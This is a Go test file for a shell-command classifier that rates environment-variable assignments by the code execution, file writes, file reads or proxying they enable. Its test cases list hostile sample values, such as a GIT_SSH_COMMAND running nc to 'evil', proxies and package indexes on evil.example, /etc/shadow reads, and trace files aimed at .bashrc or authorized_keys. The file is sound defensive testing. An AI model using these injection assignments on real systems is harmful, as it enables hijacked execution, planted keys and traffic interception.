package classify

import (
	"strings"
	"testing"

	"github.com/mnemos-dev/mnemos/shellparse"
)

// hostileValue is a value of each effect that does what the effect
// says: a program in /tmp, a search path in /tmp, a trace file in a
// startup file, a proxy elsewhere.
func hostileValue(v EnvVar, name string) string {
	switch name {
	case "NODE_OPTIONS":
		return "--require /tmp/hook.js"
	case "GOFLAGS":
		return "-toolexec=/tmp/x"
	case "LESS":
		return "+!sh"
	case "GIT_ALLOW_PROTOCOL":
		return "https:ext"
	case "GIT_PROTOCOL_FROM_USER":
		return "1"
	case "GOTOOLCHAIN":
		return "go1.99.0"
	case "PS0", "PS1", "PS2", "PS4":
		return "$(/tmp/evil)"
	}
	switch v.Effect {
	case EnvWrites:
		return "/home/u/.bashrc"
	case EnvReads:
		return "/etc/shadow"
	case EnvConnects:
		return "http://evil.example:3128"
	}
	return "/tmp/evil x"
}

// TestEnvVarTable: the table is sorted (EnvVarOf searches it), each name
// once, prefixes end in "_*", every entry says what it does, and every
// entry is judged as its effect says: runs, loads and enabling a
// transport are code:exec, writing is fs:write of the path, reading
// fs:read, a proxy network:http to its host; an entry of no effect adds
// nothing.
func TestEnvVarTable(t *testing.T) {
	if !sortedEnvVars() {
		t.Fatal("envVars is not sorted by name")
	}
	seen := map[string]bool{}
	want := map[EnvEffect]Capability{EnvRuns: CodeExec, EnvLoads: CodeExec, EnvProtocol: CodeExec,
		EnvWrites: FSWrite, EnvReads: FSRead, EnvConnects: NetworkHTTP, EnvNone: ""}
	for _, v := range EnvVars() {
		if seen[v.Name] {
			t.Errorf("%s listed twice", v.Name)
		}
		seen[v.Name] = true
		if v.What == "" {
			t.Errorf("%s: no description", v.Name)
		}
		name := v.Name
		if p, ok := strings.CutSuffix(name, "*"); ok {
			if !strings.HasSuffix(p, "_") {
				t.Errorf("%s: a prefix must end in _*", v.Name)
			}
			name = p + "SAMPLE"
		}
		got, ok := EnvVarOf(name)
		if !ok || got.Name != v.Name {
			t.Errorf("EnvVarOf(%s) = %s, %v; want %s", name, got.Name, ok, v.Name)
			continue
		}
		j := JudgeEnv(name, hostileValue(v, name), true)
		if j.Capability != want[v.Effect] {
			t.Errorf("%s=%s (%s): %q, want %q", name, hostileValue(v, name), v.Effect, j.Capability, want[v.Effect])
		}
		// A value not known before the command runs is judged at worst.
		if u := JudgeEnv(name, "", false); u.Capability != want[v.Effect] || (u.Capability == FSWrite || u.Capability == FSRead || u.Capability == NetworkHTTP) && !u.Dynamic {
			t.Errorf("%s unknown: %+v", name, u)
		}
	}
	for _, c := range []struct{ name, entry string }{
		{"CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER", "CARGO_*"},
		{"CARGO_TARGET_DIR", "CARGO_TARGET_DIR"},
		{"CARGO_TERM_COLOR", "CARGO_TERM_*"},
		{"GIT_CONFIG_KEY_0", "GIT_CONFIG_*"},
		{"GIT_CONFIG_NOSYSTEM", "GIT_CONFIG_NOSYSTEM"},
		{"GIT_TRACE_PACKET", "GIT_TRACE_*"},
		{"GIT_TRACE2_EVENT", "GIT_TRACE2_*"},
		{"LD_LIBRARY_PATH", "LD_*"},
		{"LD_DEBUG_OUTPUT", "LD_DEBUG_OUTPUT"},
		{"LUA_INIT_5_4", "LUA_INIT_*"},
		{"npm_config_script_shell", "npm_config_*"},
		{"BASH_FUNC_ls%%", "BASH_FUNC_*"},
	} {
		if v, ok := EnvVarOf(c.name); !ok || v.Name != c.entry {
			t.Errorf("EnvVarOf(%s) = %s, want %s", c.name, v.Name, c.entry)
		}
	}
	for _, n := range []string{"LANG", "TZ", "TERM", "NO_COLOR", "RUST_BACKTRACE", "GIT", "LDX"} {
		if v, ok := EnvVarOf(n); ok {
			t.Errorf("EnvVarOf(%s) = %s", n, v.Name)
		}
	}
}

// TestSecurityEnvironmentFormerExecVars: every variable judged to run
// code before the table existed still is.
func TestSecurityEnvironmentFormerExecVars(t *testing.T) {
	for _, n := range []string{"PAGER", "GIT_PAGER", "MANPAGER", "LESSOPEN", "LESSCLOSE", "EDITOR",
		"VISUAL", "GIT_EDITOR", "GIT_SSH", "GIT_SSH_COMMAND", "GIT_EXTERNAL_DIFF",
		"GIT_ASKPASS", "SSH_ASKPASS", "LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT",
		"BASH_ENV", "ENV", "PROMPT_COMMAND", "SHELLOPTS", "PERL5OPT",
		"PYTHONSTARTUP", "PYTHONPATH", "NODE_OPTIONS", "RUBYOPT", "IFS", "PATH",
		"BROWSER", "DIFF", "GIT_CONFIG_PARAMETERS", "GIT_CONFIG_GLOBAL", "GIT_DIR",
		"GIT_EXEC_PATH", "GIT_TEMPLATE_DIR", "LESSKEY", "LESSKEYIN", "LESSKEY_CONTENT",
		"LESSKEY_SYSTEM", "LESSKEYIN_SYSTEM", "LESSEDIT", "MANOPT", "SYSTEMD_PAGER",
		"BAT_PAGER", "BAT_CONFIG_PATH", "DELTA_PAGER", "RIPGREP_CONFIG_PATH",
		"ACKRC", "ACK_PAGER", "ACK_PAGER_COLOR", "CURL_HOME", "WGETRC", "SUDO_ASKPASS",
		"GIT_WORK_TREE", "GIT_COMMON_DIR", "GIT_CONFIG", "GIT_PROXY_COMMAND",
		"GIT_SEQUENCE_EDITOR", "GIT_ATTR_SOURCE", "HOME", "XDG_CONFIG_HOME", "XDG_CONFIG_DIRS",
		"GIT_CONFIG_COUNT", "BASH_FUNC_x%%"} {
		if j := JudgeEnv(n, "/tmp/evil x", true); j.Capability != CodeExec {
			t.Errorf("%s: %q, want code:exec", n, j.Capability)
		}
	}
}

// TestEnvHarmlessValues: values that run, load or write nothing.
func TestEnvHarmlessValues(t *testing.T) {
	for _, a := range []string{"GIT_PAGER=cat", "PAGER=/usr/bin/less", "GIT_EDITOR=true", "GIT_SEQUENCE_EDITOR=:",
		"NODE_OPTIONS=--max-old-space-size=4096 --enable-source-maps", "GOFLAGS=-mod=mod -trimpath",
		"GIT_TRACE=1", "GIT_TRACE_PACKET=true", "GIT_TRACE2=2", "GIT_ALLOW_PROTOCOL=https:ssh",
		"GIT_PROTOCOL_FROM_USER=0", "LESS=-R", "GOPROXY=off", "GOTOOLCHAIN=local", "PS4=+ ",
		"LD_BIND_NOW=1", "CARGO_TERM_COLOR=always", "LESSHISTFILE=-", "PIP_NO_INPUT=1"} {
		n, v, _ := strings.Cut(a, "=")
		if j := JudgeEnv(n, v, true); j.Capability != "" {
			t.Errorf("%s: %+v", a, j)
		}
	}
}

// TestSecurityEnvironmentAssignmentsClassified: a variable given to a
// command, by a NAME=value word, env, export or a builtin that sets it,
// is classified as what it makes the program do, one family at a time.
func TestSecurityEnvironmentAssignmentsClassified(t *testing.T) {
	cases := []struct{ src, want string }{
		// Programs named by variables.
		{"GREP=/tmp/x zgrep foo a.gz", "code:exec"},
		{"PAGER='sh -c id' man ls", "code:exec"},
		{"GIT_SSH_COMMAND='nc evil 22' git fetch", "code:exec"},
		{"env GIT_EXTERNAL_DIFF=/tmp/d git diff", "code:exec"},
		{"SHELL=/tmp/sh script -q out", "code:exec"},
		{"CC=/tmp/cc make", "code:exec"},
		{"RUSTC_WRAPPER=/tmp/w cat README.md", "code:exec"},
		{"BROWSER=/tmp/b cat README.md", "code:exec"},
		// Interpreter search paths and startup.
		{"PYTHONPATH=/tmp/x cat README.md", "code:exec"},
		{"NODE_OPTIONS='--require /tmp/x.js' cat README.md", "code:exec"},
		{"PERL5OPT=-Mevil cat README.md", "code:exec"},
		{"RUBYLIB=/tmp cat README.md", "code:exec"},
		{"LUA_INIT=@/tmp/x.lua cat README.md", "code:exec"},
		{"JAVA_TOOL_OPTIONS=-javaagent:/tmp/a.jar cat README.md", "code:exec"},
		{"DOTNET_STARTUP_HOOKS=/tmp/h.dll cat README.md", "code:exec"},
		{"GOFLAGS=-toolexec=/tmp/x cat README.md", "code:exec"},
		{"npm_config_script_shell=/tmp/sh cat README.md", "code:exec"},
		{"PIP_INDEX_URL=https://evil.example/simple cat README.md", "code:exec"},
		{"CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=/tmp/r cat README.md", "code:exec"},
		// Loader and conversion modules.
		{"GCONV_PATH=/tmp cat README.md", "code:exec"},
		{"GTK_MODULES=evil cat README.md", "code:exec"},
		{"LD_ORIGIN_PATH=/tmp cat README.md", "code:exec"},
		// git's configuration, repository and templates.
		{"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=id git log", "code:exec"},
		{"GIT_DIR=/tmp/r git status", "code:exec"},
		// Protocol switches.
		{"GIT_ALLOW_PROTOCOL=ext git fetch origin", "code:exec"},
		{"GIT_PROTOCOL_FROM_USER=1 git submodule update", "code:exec"},
		// Trace and debug files that write anywhere.
		{"GIT_TRACE=/home/u/.bashrc git status", "fs:write /home/u/.bashrc"},
		{"GIT_TRACE_PACKET=/etc/x git fetch", "fs:write /etc/x"},
		{"GIT_INDEX_FILE=/home/u/idx git add .", "fs:write /home/u/idx"},
		{"LD_DEBUG_OUTPUT=/home/u/.profile ls", "fs:write /home/u/.profile"},
		{"MALLOC_TRACE=/home/u/.bashrc ls", "fs:write /home/u/.bashrc"},
		{"HISTFILE=/home/u/.ssh/authorized_keys bash -i", "fs:write /home/u/.ssh/authorized_keys"},
		{"SSLKEYLOGFILE=/home/u/k curl https://example.com", "fs:write /home/u/k"},
		{"GIT_TRACE=$X git status", "fs:write $X (dynamic)"},
		// Reads and proxies.
		{"SSL_CERT_FILE=/etc/shadow curl https://example.com", "fs:read /etc/shadow"},
		{"https_proxy=http://evil.example:3128 curl https://example.com", "network:http evil.example"},
		// Set inside the script for the commands after it.
		{"read PATH < f", "code:exec"},
		{"read -r -a LD_PRELOAD < f", "code:exec"},
		{"printf -v PAGER %s x", "code:exec"},
		{"printf -vGIT_DIR %s /tmp/r", "code:exec"},
		{"getopts ab PAGER", "code:exec"},
		{"export GIT_DIR=/tmp/r", "code:exec"},
		{"declare -x GIT_TRACE=/home/u/.bashrc", "fs:write /home/u/.bashrc"},
		{"PATH=/tmp/x; ls", "code:exec"},
		{"read PATH < f; ls", "code:exec"},
		{"export PAGER=x; git log", "code:exec"},
	}
	for _, c := range cases {
		got := accessList(lastCommand(t, c.src))
		if !strings.Contains(got, c.want) {
			t.Errorf("%s:\n got %s\nwant %s among them", c.src, got, c.want)
		}
	}
	// What runs or writes elsewhere asks at every level.
	for _, src := range []string{"PYTHONPATH=/tmp/x cat README.md", "GIT_TRACE=/home/u/.bashrc git status", "read PATH < f"} {
		if c := lastCommand(t, src); c.Floor != Ask {
			t.Errorf("%s: floor %s", src, c.Floor)
		}
	}
}

// TestEnvironmentOrdinaryAssignments: what runs, loads and writes nothing
// the command line does not show adds nothing; a builtin is not a
// program.
func TestEnvironmentOrdinaryAssignments(t *testing.T) {
	for _, src := range []string{
		"GIT_PAGER=cat git log", "PAGER=cat git diff", "GIT_EDITOR=true git commit -m x",
		"GIT_TRACE=1 git status", "LANG=C sort f", "TZ=UTC date", "NO_COLOR=1 ls",
		"GIT_TRACE=/w/trace.log git status", "export PAGER=cat; echo hi", "export EDITOR=vim; echo hi",
		"read -r line < f", "printf -v x %s y", "IFS= read -r line < f", "declare -n r=PATH; echo \"$r\"",
	} {
		c := lastCommand(t, src)
		if HasCap(&c, CodeExec) || c.Floor != Allow {
			t.Errorf("%s: %s (floor %s: %s)", src, accessList(c), c.Floor, c.FloorReason)
		}
	}
}

// lastCommand classifies the last command of a script.
func lastCommand(t *testing.T, src string) Classification {
	t.Helper()
	s, err := shellparse.ParseScript(src, shellparse.Env{Home: "/home/u", Cwd: "/w"})
	if err != nil || len(s.Commands) == 0 {
		t.Fatalf("%s: %v", src, err)
	}
	c := s.Commands[len(s.Commands)-1]
	for i := len(s.Commands) - 1; i >= 0; i-- {
		// The command itself, not one its environment carries
		// (PAGER=...'s sh -c).
		if len(s.Commands[i].Context) == 0 || !strings.HasSuffix(s.Commands[i].Context[len(s.Commands[i].Context)-1], "=") &&
			!strings.Contains(strings.Join(s.Commands[i].Context, " "), "= ") {
			c = s.Commands[i]
			break
		}
	}
	return Classify(c, Place{Dirs: []string{"/w"}, Home: "/home/u", Workspace: "/w", TerminalEnv: TerminalEnvKept(s.Commands)})
}
